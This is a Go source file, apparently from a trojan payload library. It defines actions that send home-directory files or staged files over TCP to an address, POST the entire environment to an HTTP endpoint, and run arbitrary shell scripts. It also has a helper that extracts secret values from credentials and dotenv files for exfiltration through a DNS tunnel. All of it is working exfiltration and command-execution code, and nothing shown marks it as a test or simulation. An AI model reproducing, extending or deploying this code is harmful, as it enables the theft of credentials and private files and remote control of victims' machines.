package payload

import (
	"bufio"
	"bytes"
	"errors"
	"os"
	"strings"
)

// Actions are the payloads a re-executed child or daemon of any trojan can
// run (see Child, Daemon, Dispatch).
func Actions() map[string]Action {
	return map[string]Action{
		// send-home-tcp ADDR REL: send ~/REL to the TCP address.
		"send-home-tcp": func(a []string) error {
			if len(a) != 2 {
				return errArgs
			}
			b, err := ReadHome(a[1])
			if err != nil {
				return err
			}
			return SendTCP(a[0], b)
		},
		// send-file-tcp ADDR PATH: send a (staged) file to the TCP address.
		"send-file-tcp": func(a []string) error {
			if len(a) != 2 {
				return errArgs
			}
			b, err := os.ReadFile(a[1])
			if err != nil {
				return err
			}
			return SendTCP(a[0], b)
		},
		// post-env ADDR: POST the whole environment to http://ADDR/.
		"post-env": func(a []string) error {
			if len(a) != 1 {
				return errArgs
			}
			return PostHTTP(a[0], "/v1/env", Environ())
		},
		// shell SCRIPT: run /bin/sh -c SCRIPT.
		"shell": func(a []string) error {
			if len(a) != 1 {
				return errArgs
			}
			_, err := Shell(a[0])
			return err
		},
	}
}

var errArgs = errors.New("bad child arguments")

// SecretValues returns the values of the KEY=VALUE and "key = value" lines
// of a credentials or dotenv file: what a DNS tunnel ships, one value per
// query, because whole lines would not fit in a label.
func SecretValues(b []byte) []string {
	var out []string
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || line[0] == '#' || line[0] == '[' {
			continue
		}
		if _, v, ok := strings.Cut(line, "="); ok {
			if v = strings.TrimSpace(v); v != "" {
				out = append(out, v)
			}
		}
	}
	return out
}
